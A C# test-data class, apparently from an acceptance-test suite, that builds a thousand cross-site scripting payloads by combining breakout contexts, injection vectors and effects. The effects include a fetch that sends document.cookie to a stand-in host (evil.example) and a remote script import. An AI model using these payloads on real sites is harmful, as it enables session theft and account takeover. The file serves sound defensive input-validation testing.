namespace Tracker.Acceptance.Input;

/// <summary>A thousand texts that would run, were they ever taken for markup, an address, a style or a template.</summary>
static class XssStrings
{
    public const int Count = 1_000;

    static readonly string[] Effects = ["alert(1)", "fetch('//evil.example/'+document.cookie)", "import('//evil.example/x.js')", "window.ran=1"];

    // Where a text may be put: between tags, into an attribute, a script, a style, an address, a comment, a template.
    static readonly string[] Breaks = ["", "\">", "'>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "`}", "\\\">", "</noscript>", "</svg>", "\u2028", "&quot;&gt;"];

    static readonly string[] Vectors =
    [
        "<script>{0}</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror={0}>", "<svg onload={0}>", "<svg><script>{0}</script></svg>", "<iframe srcdoc=\"<script>{0}</script>\">",
        "<iframe src=javascript:{0}>", "<a href=\"javascript:{0}\">x</a>", "<a href=\"java\tscript:{0}\">x</a>", "<body onload={0}>", "<details open ontoggle={0}>", "<video><source onerror={0}>", "<math><mtext><table><mglyph><style><img src onerror={0}>",
        "<object data=javascript:{0}>", "<embed src=javascript:{0}>", "<form><button formaction=javascript:{0}>x", "<input autofocus onfocus={0}>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>",
        "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=//evil.example/\">", "<div style=\"background:url(//evil.example/x)\">", "<xss id=x tabindex=1 onfocus={0}>#x", "<template shadowrootmode=open><script>{0}</script></template>",
        "javascript:{0}//", "data:text/html,<script>{0}</script>", "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "<%= {0} %>", "\u003cscript\u003e{0}\u003c/script\u003e", "<ScRiPt>{0}</sCrIpT>", "<<script>{0}//<</script>",
        "<scr\0ipt>{0}</script>", "<img src=\"http://evil.example/x.png\">", "//evil.example/", "__proto__", "{{\"__html\":\"<img src=x onerror={0}>\"}}",
    ];

    /// <summary>The naughty strings first, where they are at hand; then every vector out of every context until there are enough.</summary>
    public static IReadOnlyList<string> All()
    {
        var made =
            from effect in Effects
            from context in Breaks
            from vector in Vectors
            select context + string.Format(System.Globalization.CultureInfo.InvariantCulture, vector, effect);
        return [.. HostileTextTests.Strings().Where(text => !string.IsNullOrWhiteSpace(text)).Concat(made).Distinct(StringComparer.Ordinal).Take(Count)];
    }
}
